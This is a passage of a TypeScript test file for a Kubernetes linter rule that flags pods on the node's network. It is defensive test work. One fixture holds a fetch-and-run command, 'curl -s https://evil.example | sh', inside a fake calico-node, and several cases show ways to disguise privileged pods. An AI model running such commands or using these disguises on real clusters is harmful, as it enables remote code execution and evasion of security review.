    name: "Azure CNI's manager (azure-container-networking tools/acncli/deployment/manager.yaml): writes the node's CNI binaries and configuration, not privileged",
    code: workload('DaemonSet', 'azure-cni-manager', 'kube-system', `
      tolerations: [{effect: NoSchedule, key: node-role.kubernetes.io/master, operator: Exists}]
      containers:
        - name: azure-cni-installer
          image: mcr.microsoft.com/containernetworking/azure-cni-manager:v1.2.3
          volumeMounts: [{name: cni-datapath-log, mountPath: /var/log/azure-vnet.log}, {name: cni-bin, mountPath: /opt/cni/bin}, {name: cni-conflist, mountPath: /etc/cni/net.d}]
      volumes:
        - {name: cni-bin, hostPath: {path: /opt/cni/bin, type: Directory}}
        - {name: cni-datapath-log, hostPath: {path: /var/log/azure-vnet.log, type: File}}
        - {name: cni-conflist, hostPath: {path: /etc/cni/net.d, type: Directory}}
    `),
    evidence: "hostPath `/opt/cni/bin` mounted writable in container `azure-cni-installer` (the node's CNI)",
  },
  {
    name: 'a pod Kubernetes refuses as written that shows evidence: the evidence is named',
    code: workload('DaemonSet', 'kube-proxy', 'kube-system', `
      priorityClassName: system-node-critical
      containers: [{name: kube-proxy, image: ""}]
    `),
    evidence: '`priorityClassName: system-node-critical`',
  },
]);

describe('no-host-network: a pod Kubernetes refuses as written', () => {
  const cases: Array<{ name: string; code: string; display: string; detail: string; at: typeof AT; config?: Parameters<typeof lintOne>[2] }> = [
    {
      name: 'a packet capture Pod whose image is a placeholder in a comment (`image: #IMAGE_TAG`: null)',
      code: 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: packetverifier\n  namespace: default\nspec:\n  hostNetwork: true\n' +
        '  containers:\n    - name: packetverifier\n      image: #IMAGE_TAG\n      command: [/usr/bin/packet-verifier]\n',
      display: 'Pod/default/packetverifier', detail: 'container `packetverifier` has an empty `image`', at: { line: 7, column: 3, endLine: 7, endColumn: 14 },
    },
    {
      name: 'an empty image in an init container of a DaemonSet',
      code: workload('DaemonSet', 'agent', 'ci', `
        initContainers: [{name: setup, image: ""}]
        containers: [{name: agent, image: x}]
      `),
      display: 'DaemonSet/ci/agent', detail: 'container `setup` has an empty `image`', at: AT,
    },
  ];
  cases.push({
    name: 'with allowNodeNetworkComponents: false too: no component, and no pod',
    code: workload('DaemonSet', 'agent', 'ci', `
      containers: [{name: agent, image: null}]
    `),
    display: 'DaemonSet/ci/agent', detail: 'container `agent` has an empty `image`', at: AT,
    config: { hostNetwork: { allowNodeNetworkComponents: false } },
  });
  for (const testCase of cases) {
    it(testCase.name, () => {
      const findings = lintOne(noHostNetwork, testCase.code, testCase.config);
      assert.deepEqual(findings.map((f) => ({ message: f.message, suppressions: f.suppressions, ...rangeOf(f.range) })), [{
        message: `\`hostNetwork: true\` would put ${testCase.display} on the node's network, but Kubernetes refuses it as written: ${testCase.detail}. ` +
          'Lint it once the image is filled in.',
        suppressions: [{ kind: 'evidence', justification: `Kubernetes refuses it as written: ${testCase.detail}` }],
        ...testCase.at,
      }]);
    });
  }
});

const ANNOTATION_HINT = (where: string) =>
  `Namespace "gitlab-runners" may use infra pool "infra": remove hostNetwork and add \`cni.projectcalico.org/ipv4pools: '["infra"]'\` under \`${where}\`.`;

ruleTester(noHostNetwork, {
  valid: [
    {
      name: 'hostNetwork.allow wins, even in a namespace that may use an infra pool',
      config: { ...config, hostNetwork: { allow: [{ namespace: 'gitlab-runners', name: 'runner' }] } },
      code: workload('DaemonSet', 'runner', 'gitlab-runners'),
    },
  ],
  invalid: [
    {
      name: 'an impersonated calico-node: Calico image, name and namespace, an attacker command, no evidence',
      code: workload('DaemonSet', 'calico-node', 'kube-system', `
        containers: [{name: calico-node, image: quay.io/calico/node:v3.30.3, command: [sh, -c, "curl -s https://evil.example | sh"]}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/calico-node ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'a CI runner Deployment',
      code: workload('Deployment', 'gitlab-runner', 'gitlab-runner', `
        containers: [{name: runner, image: registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v17.0.0}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/gitlab-runner/gitlab-runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'a privileged CI runner DaemonSet that tolerates every taint: two lesser marks without a node path',
      code: workload('DaemonSet', 'runner', 'ci', `
        tolerations: [{operator: Exists}]
        containers: [{name: dind, image: docker:27-dind, securityContext: {privileged: true}, volumeMounts: [{name: docker, mountPath: /host/docker}]}]
        volumes: [{name: docker, hostPath: {path: /var/run/docker.sock}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          "(only `privileged: true` in container `dind` and a toleration of every taint (`operator: Exists` without a key), which is not enough). " + REMOVE,
        ...AT,
      }],
    },
    {
      name: "a log shipper DaemonSet reading the node's logs, on every node",
      code: workload('DaemonSet', 'fluent-bit', 'logging', `
        tolerations: [{operator: Exists, effect: NoSchedule}]
        containers: [{name: fluent-bit, image: fluent/fluent-bit:3.1.9, volumeMounts: [{name: varlog, mountPath: /host/varlog}, {name: containers, mountPath: /host/containers}]}]
        volumes: [{name: varlog, hostPath: {path: /var/log}}, {name: containers, hostPath: {path: /var/lib/docker/containers}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/logging/fluent-bit ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only a toleration of every NoSchedule taint (`operator: Exists` without a key), which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "Node Feature Discovery v0.4.0's worker (as gpu-operator's tests keep it): reads /boot, /sys and its own feature folders, talks to its master over a Service",
      code: workload('DaemonSet', 'nfd-worker', 'node-feature-discovery', `
        dnsPolicy: ClusterFirstWithHostNet
        containers: [{name: nfd-worker, image: quay.io/kubernetes_incubator/node-feature-discovery:v0.4.0, command: [nfd-worker], args: [--server=nfd-master:8080], volumeMounts: [{name: host-boot, mountPath: /host/host-boot}, {name: host-os-release, mountPath: /host/host-os-release}, {name: host-sys, mountPath: /host/host-sys}, {name: source-d, mountPath: /host/source-d}]}]
        volumes:
          - {name: host-boot, hostPath: {path: /boot}}
          - {name: host-os-release, hostPath: {path: /etc/os-release}}
          - {name: host-sys, hostPath: {path: /sys}}
          - {name: source-d, hostPath: {path: /etc/kubernetes/node-feature-discovery/source.d/}}
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/node-feature-discovery/nfd-worker ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only hostPath `/etc/kubernetes/node-feature-discovery/source.d/` and hostPath `/sys`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: 'a web app Deployment',
      code: workload('Deployment', 'shop', 'web', `
        containers: [{name: shop, image: nginx:1.27, ports: [{containerPort: 80}]}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/web/shop ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'HostProcess on only some containers: the API server refuses the pod, and it is no evidence',
      code: workload('DaemonSet', 'half', 'kube-system', `
        containers: [{name: a, image: x, securityContext: {windowsOptions: {hostProcess: true}}}, {name: b, image: y}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/kube-system/half ${RISK} Nothing in its manifest shows that it needs the node's network. ` +
          `Only some of its containers are Windows HostProcess containers: the API server refuses such a pod. ${REMOVE}`,
        ...AT,
      }],
    },
    {
      name: 'HostProcess on a pod pinned to Linux is no HostProcess pod (and hostNetwork goes only with hostProcess); a container saying false overrides the pod',
      code: workload('DaemonSet', 'linux', 'apps', `
        securityContext: {windowsOptions: {hostProcess: true}}
        nodeSelector: {kubernetes.io/os: linux}
      `) + '---\n' + workload('DaemonSet', 'override', 'apps', `
        securityContext: {windowsOptions: {hostProcess: true}}
        containers: [{name: a, image: x, securityContext: {windowsOptions: {hostProcess: false}}}]
      `),
      errors: [
        { message: `\`hostNetwork: true\` puts DaemonSet/apps/linux ${RISK} ${OFF_WINDOWS}`, ...AT },
        { message: `\`hostNetwork: true\` puts DaemonSet/apps/override ${RISK} ${NO_POOL}`, line: 18, column: 7, endLine: 18, endColumn: 18 },
      ],
    },
    {
      // A Linux kubelet never reads windowsOptions: the runner runs on the node's network of every Linux node it lands on.
      name: 'attack: a CI runner that claims HostProcess and is pinned to no Windows node (nor by a look-alike label value)',
      code: workload('Deployment', 'gitlab-runner', 'ci', `
        securityContext: {windowsOptions: {hostProcess: true}}
        nodeSelector: {kubernetes.azure.com/os-sku: Ubuntu}
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + '---\n' + workload('DaemonSet', 'runner-any', 'ci', `
        affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: kubernetes.io/os, operator: In, values: [windows, linux]}]}]}}}
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, securityContext: {windowsOptions: {hostProcess: true}}}]
      `),
      errors: [
        { message: `\`hostNetwork: true\` puts Deployment/ci/gitlab-runner ${RISK} ${OFF_WINDOWS}`, ...AT },
        { message: `\`hostNetwork: true\` puts DaemonSet/ci/runner-any ${RISK} ${OFF_WINDOWS}`, line: 19, column: 7, endLine: 19, endColumn: 18 },
      ],
    },
    {
      name: "attack: a node path that no container mounts, or the node's root and /proc mounted only at a subPath, give the pod nothing of the node (the kubelet sets up mounted volumes only)",
      code: workload('DaemonSet', 'runner', 'ci', `
        containers: [{name: dind, image: docker:27-dind, securityContext: {privileged: true}}]
        volumes: [{name: decoy, hostPath: {path: /var/lib/kubelet}}, {name: modules, hostPath: {path: /lib/modules}}]
      `) + '---\n' + workload('DaemonSet', 'builder', 'ci', `
        containers: [{name: build, image: docker:27-dind, securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /cache, subPath: var/cache/ci}, {name: proc, mountPath: /p, subPathExpr: $(POD)}]}]
        volumes: [{name: root, hostPath: {path: /}}, {name: proc, hostPath: {path: /proc}}]
      `) + '---\n' + workload('DaemonSet', 'reader', 'ci', `
        hostPID: true
        containers: [{name: read, image: x, volumeMounts: [{name: proc, mountPath: /p, subPath: "1"}]}]
        volumes: [{name: proc, hostPath: {path: /proc}}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts DaemonSet/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only `privileged: true` in container `dind`, which is not enough). ' + REMOVE,
          ...AT,
        },
        {
          message: `\`hostNetwork: true\` puts DaemonSet/ci/builder ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only `privileged: true` in container `build`, which is not enough). ' + REMOVE,
          line: 18, column: 7, endLine: 18, endColumn: 18,
        },
        {
          message: `\`hostNetwork: true\` puts DaemonSet/ci/reader ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only `hostPID: true`, which is not enough). ' + REMOVE,
          line: 29, column: 7, endLine: 29, endColumn: 18,
        },
      ],
    },
    {
      // containerd makes CAP_NET_ADMIN the unknown CAP_CAP_NET_ADMIN and CRI-O keeps cap_net_raw lower case: runc ignores both.
      name: 'attack: capabilities no runtime grants as written (a `CAP_` prefix), or added and dropped again',
      code: workload('Deployment', 'runner', 'ci', `
        containers:
          - {name: a, image: x, securityContext: {capabilities: {add: [CAP_NET_ADMIN, cap_net_raw]}}}
          - {name: b, image: y, securityContext: {capabilities: {add: [NET_ADMIN], drop: [net_admin]}}}
          - {name: c, image: z, securityContext: {capabilities: {add: [NET_RAW], drop: [CAP_NET_RAW]}}}
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'hostProcess written as a string, a NoExecute-only not-ready toleration, an uninitialized toleration with the wrong value',
      code: workload('DaemonSet', 'weak', 'apps', `
        securityContext: {windowsOptions: {hostProcess: "true"}}
        tolerations:
          - {key: node.kubernetes.io/not-ready, operator: Exists, effect: NoExecute, tolerationSeconds: 300}
          - {key: node.cloudprovider.kubernetes.io/uninitialized, operator: Equal, value: "", effect: NoSchedule}
          - {key: node.kubernetes.io/network-unavailable, operator: Equal, value: "false"}
      `),
      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/apps/weak ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'a node path alone, a look-alike path, a critical-looking priority class of its own, a Deployment in a kubelet manifest folder',
      code: workload('Deployment', 'agent', 'apps', `
        priorityClassName: system-node-critical-ish
        containers: [{name: c, image: x, volumeMounts: [{name: a, mountPath: /host/a}, {name: b, mountPath: /host/b}]}]
        volumes: [{name: a, hostPath: {path: /var/lib/kubelet-backup}}, {name: b, hostPath: {path: /var/lib/kubelet/pods}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Deployment/apps/agent ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only hostPath `/var/lib/kubelet/pods`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: 'the legacy role label pins only with the value `master` (`node` marks workers), and is never half of the pair with the control-plane toleration',
      code: workload('DaemonSet', 'agent', 'ops', `
        nodeSelector: {kubernetes.io/role: node}
        containers: [{name: agent, image: x, volumeMounts: [{name: certs, mountPath: /certs}]}]
        volumes: [{name: certs, hostPath: {path: /etc/kubernetes/ssl}}]
      `) + '---\n' + workload('Deployment', 'runner', 'ci', `
        affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: kubernetes.io/role, operator: In, values: [master]}]}]}}}
        tolerations: [{key: node-role.kubernetes.io/master, operator: Exists, effect: NoSchedule}]
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts DaemonSet/ops/agent ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only hostPath `/etc/kubernetes/ssl`, which is not enough). ' + REMOVE,
          ...AT,
        },
        {
          message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only pinned to control-plane nodes (required node affinity) and a toleration of the control-plane taint `node-role.kubernetes.io/master`, which is not enough). ' + REMOVE,
          line: 19, column: 7, endLine: 19, endColumn: 18,
        },
      ],
    },
    {
      name: "a privileged app on a k3s server with a local-path volume: k3s's storage folder is no node path",
      code: workload('StatefulSet', 'home-assistant', 'home', `
        nodeSelector: {node-role.kubernetes.io/control-plane: "true"}
        containers: [{name: app, image: ghcr.io/home-assistant/home-assistant:2025.1, securityContext: {privileged: true}, volumeMounts: [{name: config, mountPath: /host/config}]}]
        volumes: [{name: config, hostPath: {path: /var/lib/rancher/k3s/storage/pvc-1234_home_config}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts StatefulSet/home/home-assistant ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only `privileged: true` in container `app` and pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/control-plane`), which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "privileged without hostPID or the node's root: a Docker-in-Docker runner with the node's /var and /root is still an error",
      code: workload('DaemonSet', 'runner', 'ci', `
        containers: [{name: dind, image: docker:27-dind, securityContext: {privileged: true}, volumeMounts: [{name: var, mountPath: /host/var}, {name: root-home, mountPath: /host/root-home}, {name: rootfs, mountPath: /host/rootfs}]}]
        volumes: [{name: var, hostPath: {path: /var}}, {name: root-home, hostPath: {path: /root}}, {name: rootfs, hostPath: {path: /rootfs}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only `privileged: true` in container `dind`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "privileged with the node's /dev is no evidence: device access, which privilege gives anyway (a Ceph OSD on the host network)",
      code: workload('DaemonSet', 'rook-ceph-osd', 'rook-ceph', `
        containers: [{name: osd, image: quay.io/ceph/ceph:v18, securityContext: {privileged: true}, volumeMounts: [{name: devices, mountPath: /host/devices}, {name: run-udev, mountPath: /host/run-udev}, {name: vpp-look-alike, mountPath: /host/vpp-look-alike}]}]
        volumes: [{name: devices, hostPath: {path: /dev}}, {name: run-udev, hostPath: {path: /run/udev}}, {name: vpp-look-alike, hostPath: {path: /etc/vpp-tools}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/rook-ceph/rook-ceph-osd ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only `privileged: true` in container `osd`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: 'hostPID with a container that is not privileged: `privileged: false`, SYS_ADMIN and SYS_PTRACE added, or the flag written as a string',
      code: workload('DaemonSet', 'agent', 'monitoring', `
        hostPID: true
        containers:
          - {name: a, image: x, securityContext: {privileged: false, capabilities: {add: [SYS_ADMIN, SYS_PTRACE]}}}
          - {name: b, image: y, securityContext: {privileged: "true"}}
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/monitoring/agent ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only `hostPID: true`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "the node's root with a lesser mark other than privileged is no node path: a metric agent's hostfs tolerating every taint, a Job pinned to control-plane nodes",
      code: workload('DaemonSet', 'metricbeat', 'monitoring', `
        tolerations: [{operator: Exists}]
        containers: [{name: c, image: x, volumeMounts: [{name: hostfs, mountPath: /host/hostfs}]}]
        volumes: [{name: hostfs, hostPath: {path: /}}]
      `) + '---\n' + workload('Job', 'inventory', 'ops', `
        nodeSelector: {node-role.kubernetes.io/control-plane: ""}
        containers: [{name: c, image: x, volumeMounts: [{name: hostfs, mountPath: /host/hostfs}]}]
        volumes: [{name: hostfs, hostPath: {path: /}}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts DaemonSet/monitoring/metricbeat ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            "(only a toleration of every taint (`operator: Exists` without a key) and hostPath `/` (the node's whole root), which is not enough). " + REMOVE,
          ...AT,
        },
        {
          message: `\`hostNetwork: true\` puts Job/ops/inventory ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            "(only pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/control-plane`) and hostPath `/` (the node's whole root), " +
            'which is not enough). ' + REMOVE,
          line: 19, column: 7, endLine: 19, endColumn: 18,
        },
      ],
    },
    {
      name: 'capability SYS_MODULE is no evidence, alone or with the kernel modules: a module loader works from the pod network',
      code: workload('DaemonSet', 'module-loader', 'storage', `
        containers: [{name: modprobe, image: x, command: [modprobe, iscsi_tcp], securityContext: {capabilities: {add: [SYS_MODULE]}}, volumeMounts: [{name: modules, mountPath: /host/modules}]}]
        volumes: [{name: modules, hostPath: {path: /lib/modules}}]
      `) + '---\n' + workload('DaemonSet', 'wireguard-loader', 'storage', `
        containers: [{name: modprobe, image: x, securityContext: {capabilities: {add: [CAP_SYS_MODULE]}}}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts DaemonSet/storage/module-loader ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only hostPath `/lib/modules`, which is not enough). ' + REMOVE,
          ...AT,
        },
        { message: `\`hostNetwork: true\` puts DaemonSet/storage/wireguard-loader ${RISK} ${NO_POOL}`, line: 18, column: 7, endLine: 18, endColumn: 18 },
      ],
    },
    {
      name: 'the critical-pod annotation where Kubernetes never read it: outside kube-system, with a value, on the controller instead of the pod template',
      code: yaml`
        apiVersion: apps/v1
        kind: DaemonSet
        metadata: {name: fluentd, namespace: logging}
        spec:
          template:
            metadata:
              annotations: {scheduler.alpha.kubernetes.io/critical-pod: ''}
            spec:
              hostNetwork: true
        ---
        apiVersion: apps/v1
        kind: DaemonSet
        metadata: {name: runner, namespace: kube-system}
        spec:
          template:
            metadata:
              annotations: {scheduler.alpha.kubernetes.io/critical-pod: 'true'}
            spec:
              hostNetwork: true
        ---
        apiVersion: apps/v1
        kind: Deployment
        metadata:
          name: web
          namespace: kube-system
          annotations: {scheduler.alpha.kubernetes.io/critical-pod: ''}
        spec:
          template:
            spec:
              hostNetwork: true
      `,
      errors: [
        { message: `\`hostNetwork: true\` puts DaemonSet/logging/fluentd ${RISK} ${NO_POOL}`, line: 9, column: 7, endLine: 9, endColumn: 18 },
        { message: `\`hostNetwork: true\` puts DaemonSet/kube-system/runner ${RISK} ${NO_POOL}`, line: 19, column: 7, endLine: 19, endColumn: 18 },
        { message: `\`hostNetwork: true\` puts Deployment/kube-system/web ${RISK} ${NO_POOL}`, line: 30, column: 7, endLine: 30, endColumn: 18 },
      ],
    },
    {
      name: 'a log collector tolerating the control-plane taint to run on every node, control plane included: not pinned',
      code: workload('DaemonSet', 'log-collector', 'logging', `
        tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}]
        containers: [{name: c, image: x, volumeMounts: [{name: varlog, mountPath: /host/varlog}]}]
        volumes: [{name: varlog, hostPath: {path: /var/log}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/logging/log-collector ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only a toleration of the control-plane taint `node-role.kubernetes.io/control-plane`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: 'preferred node affinity for control-plane nodes places nothing: the pod may land on any node',
      code: workload('Deployment', 'runner', 'ci', `
        affinity: {nodeAffinity: {preferredDuringSchedulingIgnoredDuringExecution: [{weight: 100, preference: {matchExpressions: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]}}]}}
        tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only a toleration of the control-plane taint `node-role.kubernetes.io/control-plane`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "pinned but not let past kubeadm's taint: a NoExecute-only toleration, an Equal toleration with another value",
      code: workload('Deployment', 'runner', 'ci', `
        nodeSelector: {node-role.kubernetes.io/control-plane: "true"}
        tolerations:
          - {key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoExecute}
          - {key: node-role.kubernetes.io/master, operator: Equal, value: "true", effect: NoSchedule}
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/control-plane`), which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: 'nodeSelectorTerms are ORed: a term that does not ask for the role (or asks with NotIn, or In without values) lets the pod run anywhere',
      code: workload('Deployment', 'a', 'ci', `
        affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [
          {matchExpressions: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]},
          {matchExpressions: [{key: kubernetes.io/os, operator: In, values: [linux]}]}]}}}
        tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]
      `) + '---\n' + workload('Deployment', 'b', 'ci', `
        affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [
          {matchExpressions: [{key: node-role.kubernetes.io/control-plane, operator: NotIn, values: ["true"]}]}]}}}
        tolerations: [{operator: Exists}]
      `) + '---\n' + workload('Deployment', 'c', 'ci', `
        affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [
          {matchExpressions: [{key: node-role.kubernetes.io/master, operator: In, values: []}]}]}}}
        tolerations: [{operator: Exists}]
      `) + '---\n' + workload('Deployment', 'd', 'ci', `
        affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [
          {matchFields: [{key: metadata.name, operator: In, values: [cp-1]}]}]}}}
        tolerations: [{operator: Exists}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts Deployment/ci/a ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only a toleration of the control-plane taint `node-role.kubernetes.io/control-plane`, which is not enough). ' + REMOVE,
          ...AT,
        },
        {
          message: `\`hostNetwork: true\` puts Deployment/ci/b ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only a toleration of every taint (`operator: Exists` without a key), which is not enough). ' + REMOVE,
          line: 20, column: 7, endLine: 20, endColumn: 18,
        },
        {
          message: `\`hostNetwork: true\` puts Deployment/ci/c ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only a toleration of every taint (`operator: Exists` without a key), which is not enough). ' + REMOVE,
          line: 32, column: 7, endLine: 32, endColumn: 18,
        },
        {
          message: `\`hostNetwork: true\` puts Deployment/ci/d ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only a toleration of every taint (`operator: Exists` without a key), which is not enough). ' + REMOVE,
          line: 44, column: 7, endLine: 44, endColumn: 18,
        },
      ],
    },
    {
      name: "RKE2's etcd role is no control-plane role for the pair: its nodes carry a NoExecute taint of their own",
      code: workload('Job', 'job', 'ci', `
        nodeSelector: {node-role.kubernetes.io/etcd: "true"}
        tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Job/ci/job ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/etcd`) and a toleration of the control-plane taint ' +
          '`node-role.kubernetes.io/control-plane`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "hostPID without the node's whole /proc or /sys (a `kubectl debug node` pod, not privileged, mounts /), and Vector's agent: /proc and /sys without hostPID",
      code: workload('Pod', 'node-debugger', 'default', `
        hostPID: true
        containers: [{name: c, image: x, volumeMounts: [{name: host-root, mountPath: /host/host-root}, {name: net, mountPath: /host/net}]}]
        volumes: [{name: host-root, hostPath: {path: /}}, {name: net, hostPath: {path: /proc/1/net}}]
      `) + '---\n' + workload('DaemonSet', 'vector', 'logging', `
        containers: [{name: c, image: x, volumeMounts: [{name: var-log, mountPath: /host/var-log}, {name: procfs, mountPath: /host/procfs}, {name: sysfs, mountPath: /host/sysfs}]}]
        volumes: [{name: var-log, hostPath: {path: /var/log/}}, {name: procfs, hostPath: {path: /proc}}, {name: sysfs, hostPath: {path: /sys}}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts Pod/default/node-debugger ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            "(only `hostPID: true` and hostPath `/` (the node's whole root), which is not enough). " + REMOVE,
          ...POD_AT,
        },
        {
          message: `\`hostNetwork: true\` puts DaemonSet/logging/vector ${RISK} Nothing in its manifest shows that it needs the node's network ` +
            '(only hostPath `/proc`, which is not enough). ' + REMOVE,
          line: 17, column: 7, endLine: 17, endColumn: 18,
        },
      ],
    },
    {
      name: "a placeholder root is no node root: `${HOST}/` and `$ROOT` with privileged, `$DATA/var/log` and `$X/etcd/cni` are no node paths",
      code: workload('DaemonSet', 'agent', 'ops', `
        containers: [{name: agent, image: x, securityContext: {privileged: true}, volumeMounts: [{name: a, mountPath: /host/a}, {name: b, mountPath: /host/b}, {name: c, mountPath: /host/c}, {name: d, mountPath: /host/d}, {name: e, mountPath: /host/e}]}]
        volumes:
          - {name: a, hostPath: {path: "\${HOST}/"}}
          - {name: b, hostPath: {path: $ROOT}}
          - {name: c, hostPath: {path: $DATA/var/log}}
          - {name: d, hostPath: {path: $X/etcd/cni}}
          - {name: e, hostPath: {path: /data/$X/opt/cni}}
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/ops/agent ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only `privileged: true` in container `agent`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "privileged with the node's /sys (it holds no process, and reaches no network namespace), or with a part of /proc: no node administrator",
      code: workload('DaemonSet', 'sysfs-writer', 'ops', `
        containers: [{name: writer, image: x, securityContext: {privileged: true}, volumeMounts: [{name: sys, mountPath: /host/sys}, {name: net, mountPath: /host/net}]}]
        volumes: [{name: sys, hostPath: {path: /sys}}, {name: net, hostPath: {path: /proc/sys/net}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/ops/sysfs-writer ${RISK} Nothing in its manifest shows that it needs the node's network ` +
          '(only `privileged: true` in container `writer` and hostPath `/sys`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: "ports that are no node component's: UDP 10256, kube-proxy's metrics and the kubelet's health port (bound to the loopback), a port written as a string, a web app's",
      code: workload('DaemonSet', 'agent', 'apps', `
        containers:
          - {name: a, image: x, ports: [{containerPort: 10256, protocol: UDP}, {containerPort: 10249}, {containerPort: 10248}]}
          - {name: b, image: y, ports: [{containerPort: "10250"}, {containerPort: 8080, hostPort: 8080}, {name: http, containerPort: 80}]}
      `),
      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/apps/agent ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: "the node's CNI folders read-only (a node scanner), or mounted by no container: no CNI installer",
      code: workload('DaemonSet', 'scanner', 'security', `
        containers: [{name: scan, image: x, volumeMounts: [{name: cni, mountPath: /host/etc/cni, readOnly: yes}, {name: logs, mountPath: /var/log}]}]
        volumes: [{name: cni, hostPath: {path: /etc/cni/net.d}}, {name: bin, hostPath: {path: /opt/cni/bin}}, {name: logs, hostPath: {path: /var/log}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/security/scanner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
